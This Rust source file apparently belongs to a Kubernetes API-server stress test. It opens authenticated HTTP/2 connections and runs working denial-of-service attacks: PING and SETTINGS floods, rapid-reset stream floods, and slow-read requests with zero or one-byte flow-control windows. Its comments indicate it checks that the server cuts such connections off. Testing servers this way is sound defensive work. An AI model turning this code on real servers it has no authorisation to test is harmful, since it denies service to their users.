//! Floods the server with HTTP/2 frames, and requests large lists that it can send only a byte at a time.

use std::io;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use kube::Config;
use kube::client::ConfigExt as _;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

/// An attack on one HTTP/2 connection.
#[derive(Clone, Copy, Debug)]
pub(super) enum Attack {
    /// PING frames; the client does not read the acknowledgments.
    Pings,
    /// SETTINGS frames; the client does not read the acknowledgments.
    Settings,
    /// Requests that the client cancels immediately.
    Resets,
    /// A large list with a window of zero bytes.
    ClosedWindow,
    /// A large list with a window of one byte, which opens again after each byte.
    TinyWindow,
}

pub(super) const ATTACKS: [Attack; 5] =
    [Attack::Pings, Attack::Settings, Attack::Resets, Attack::ClosedWindow, Attack::TinyWindow];

/// The number of frames in one write of a flood.
const BATCH: u32 = 500;
/// The time for which a client accepts a list with a small window.
const STALL: Duration = Duration::from_secs(20);
/// The pause before the next connection.
const RETURN: Duration = Duration::from_secs(1);
/// The pause before a tiny window opens again.
const PAUSE: Duration = Duration::from_millis(20);

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const END_STREAM_AND_HEADERS: u8 = 5;

/// Attacks the server repeatedly, and counts the frames that it accepted: for a flood, the batches of frames.
pub(super) async fn attacks(config: Config, attack: Attack, path: &str, sent: Arc<AtomicUsize>) {
    loop {
        if let Ok(connection) = connect(&config, attack).await {
            // The server ends the connection; that is what it should do.
            let _: io::Result<()> = attacked(connection, &config, attack, path, &sent).await;
        }
        sleep(RETURN).await;
    }
}

/// Connects with HTTP/2, and sends the settings.
async fn connect(config: &Config, attack: Attack) -> io::Result<TlsStream<TcpStream>> {
    let mut tls = config.rustls_client_config().map_err(io::Error::other)?;
    tls.alpn_protocols = vec![b"h2".to_vec()];
    let host = config.cluster_url.host().unwrap_or_default().to_owned();
    let stream = TcpStream::connect((host.as_str(), config.cluster_url.port_u16().unwrap_or(443))).await?;
    let name = ServerName::try_from(host).map_err(io::Error::other)?;
    let mut connection = TlsConnector::from(Arc::new(tls)).connect(name, stream).await?;
    let window: u32 = match attack {
        Attack::ClosedWindow => 0,
        Attack::TinyWindow => 1,
        Attack::Pings | Attack::Settings | Attack::Resets => 65_535,
    };
    let mut start = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // The setting 4 is SETTINGS_INITIAL_WINDOW_SIZE.
    let setting: Vec<u8> = [0, 4].into_iter().chain(window.to_be_bytes()).collect();
    start.extend(frame(SETTINGS, 0, 0, &setting));
    connection.write_all(&start).await?;
    Ok(connection)
}

async fn attacked(
    connection: TlsStream<TcpStream>,
    config: &Config,
    attack: Attack,
    path: &str,
    sent: &AtomicUsize,
) -> io::Result<()> {
    let request = request(config, path);
    let (mut reader, mut writer) = tokio::io::split(connection);
    match attack {
        Attack::Pings => flood(&mut writer, sent, |_| frame(PING, 0, 0, &[0; 8])).await,
        Attack::Settings => flood(&mut writer, sent, |_| frame(SETTINGS, 0, 0, &[])).await,
        Attack::Resets => {
            let cancelled = |number: u32| {
                let stream = number.wrapping_mul(2).wrapping_add(1);
                let mut frames = frame(HEADERS, END_STREAM_AND_HEADERS, stream, &request);
                frames.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                frames
            };
            flood(&mut writer, sent, cancelled).await
        }
        Attack::ClosedWindow | Attack::TinyWindow => {
            writer.write_all(&frame(HEADERS, END_STREAM_AND_HEADERS, 1, &request)).await?;
            sent.fetch_add(1, Ordering::Relaxed);
            let trickle = async {
                if matches!(attack, Attack::TinyWindow) {
                    loop {
                        sleep(PAUSE).await;
                        writer.write_all(&frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])).await?;
                        sent.fetch_add(1, Ordering::Relaxed);
                    }
                }
                std::future::pending().await
            };
            let both = async {
                tokio::select! { done = trickle => done, done = drain(&mut reader) => done }
            };
            timeout(STALL, both).await.unwrap_or(Ok(()))
        }
    }
}

/// Writes frames until the server closes the connection.
async fn flood(
    writer: &mut (impl AsyncWrite + Unpin),
    sent: &AtomicUsize,
    frame: impl Fn(u32) -> Vec<u8>,
) -> io::Result<()> {
    for batch in 0_u32.. {
        let first = batch.wrapping_mul(BATCH);
        let frames: Vec<u8> = (first..first.wrapping_add(BATCH)).flat_map(&frame).collect();
        match timeout(STALL, writer.write_all(&frames)).await {
            Ok(written) => written?,
            // The server stopped reading, since the client does not read.
            Err(_elapsed) => return Ok(()),
        }
        sent.fetch_add(1, Ordering::Relaxed);
    }
    Ok(())
}

/// Reads until the server closes the connection.
async fn drain(reader: &mut (impl AsyncRead + Unpin)) -> io::Result<()> {
    let mut buffer = [0; 1024];
    while reader.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// Returns a frame.
///
/// Source: RFC 9113, section 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame: Vec<u8> = length.into_iter().skip(1).chain([kind, flags]).collect();
    frame.extend((stream & 0x7fff_ffff).to_be_bytes());
    frame.extend(payload);
    frame
}

/// Returns the header block of a GET request.
///
/// Source: RFC 7541, section 6 and appendix A.
fn request(config: &Config, path: &str) -> Vec<u8> {
    let authority = config.cluster_url.authority().map_or("", |authority| authority.as_str());
    let token = authorization(config);
    // GET and https are fields 2 and 7; the names of the others are the fields 4, 1, and 23.
    let mut block = vec![0x82, 0x87];
    for (name, value) in [(&[0x04][..], path), (&[0x01], authority), (&[0x0f, 0x08], token.as_str())] {
        block.extend(name);
        if let Ok(length @ ..127) = u8::try_from(value.len()) {
            block.push(length);
        } else {
            let mut rest = value.len().saturating_sub(127);
            block.push(0x7f);
            while rest >= 0x80 {
                block.push(u8::try_from(rest & 0x7f).unwrap_or_default() | 0x80);
                rest >>= 7;
            }
            block.push(u8::try_from(rest).unwrap_or_default());
        }
        block.extend(value.as_bytes());
    }
    block
}

/// Returns the value of the header `authorization`.
fn authorization(config: &Config) -> String {
    let user = serde_json::to_value(&config.auth_info).unwrap_or_default();
    format!("Bearer {}", user["token"].as_str().unwrap_or_default())
}
